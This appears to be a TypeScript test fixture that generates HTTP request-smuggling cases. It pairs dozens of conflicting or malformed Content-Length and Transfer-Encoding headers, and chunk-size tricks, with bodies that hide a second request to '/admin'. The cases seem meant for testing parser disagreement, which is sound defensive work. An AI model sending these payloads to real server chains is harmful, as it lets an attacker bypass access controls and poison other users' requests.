import { across, head, mark, story } from './hostile-words.ts'

/** Where two servers may disagree about what a request is (RFC 9112, 11.2). */
const hidden = `GET /admin?${mark} HTTP/1.1\r\nHost: a\r\n\r\n`
const chunked = `0\r\n\r\n${hidden}`
const smuggled = [
  [['Content-Length: 5', 'Transfer-Encoding: chunked'], chunked],
  [['Transfer-Encoding: chunked', 'Content-Length: 5'], chunked],
  [['Content-Length: 0', 'Content-Length: 60'], hidden],
  [['Content-Length: 0, 60'], hidden],
  [['Content-Length: +60'], hidden],
  [['Content-Length: 6 0'], hidden],
  [['Content-Length: 0x3c'], hidden],
  [['Content-Length: -1'], hidden],
  [['Content-Length: 99999999999999999999'], hidden],
  [['Content-Length : 0'], hidden],
  [['Content-Length:\x0b0'], hidden],
  [['Content-Length: 0\r\n 60'], hidden],
  [['Transfer-Encoding : chunked'], chunked],
  [['Transfer-Encoding: xchunked'], chunked],
  [['Transfer-Encoding: chunked, identity'], chunked],
  [['Transfer-Encoding: identity'], chunked],
  [['Transfer-Encoding: gzip, chunked'], chunked],
  [['Transfer-Encoding:\x0bchunked'], chunked],
  [['Transfer-Encoding: "chunked"'], chunked],
  [['Transfer-Encoding: chunked', 'Transfer-Encoding: x'], chunked],
  [['Transfer-Encoding\x00: chunked'], chunked],
  [['X: y\nTransfer-Encoding: chunked'], chunked],
  [['X: y\rTransfer-Encoding: chunked'], chunked],
  [[' Transfer-Encoding: chunked'], chunked],
  [['Transfer-Encoding: chunked'], `5 ;x\r\nhello\r\n${chunked}`],
  [['Transfer-Encoding: chunked'], `+5\r\nhello\r\n${chunked}`],
  [['Transfer-Encoding: chunked'], `0x5\r\nhello\r\n${chunked}`],
  [['Transfer-Encoding: chunked'], `ffffffffffffffffff\r\n${hidden}`],
  [['Transfer-Encoding: chunked'], `5\r\nhelloX\r\n${chunked}`],
  [['Transfer-Encoding: chunked'], `5;${'x'.repeat(40_000)}\r\nhello\r\n${chunked}`],
  [['Transfer-Encoding: chunked'], `0\r\nContent-Length: 5\r\nHost: ${mark}\r\n\r\n${hidden}`],
  [['Host: other.example'], ''],
  [['Expect: 100-continue', `Content-Length: ${hidden.length}`], hidden],
  [['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: AA=='], ''],
  [['Connection: Host, Cookie, X-Forwarded-For'], ''],
] as const
export const framed = across(
  [`POST /en/message/send`, `GET ${story}`, 'POST /api/x'],
  smuggled,
).map(([line, [more, body]]) => head(`${line} HTTP/1.1`, [...more], body))
